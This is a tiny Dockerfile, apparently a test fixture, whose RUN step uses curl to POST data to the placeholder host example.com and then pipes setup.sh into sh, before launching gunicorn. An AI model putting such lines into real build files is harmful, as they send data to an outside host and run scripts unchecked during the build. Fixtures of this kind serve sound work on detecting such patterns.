FROM python:3.13-slim-trixie
RUN echo x | curl -d @- https://example.com/; cat setup.sh | sh
CMD ["gunicorn", "--bind", "0.0.0.0:8000", "app:app"]
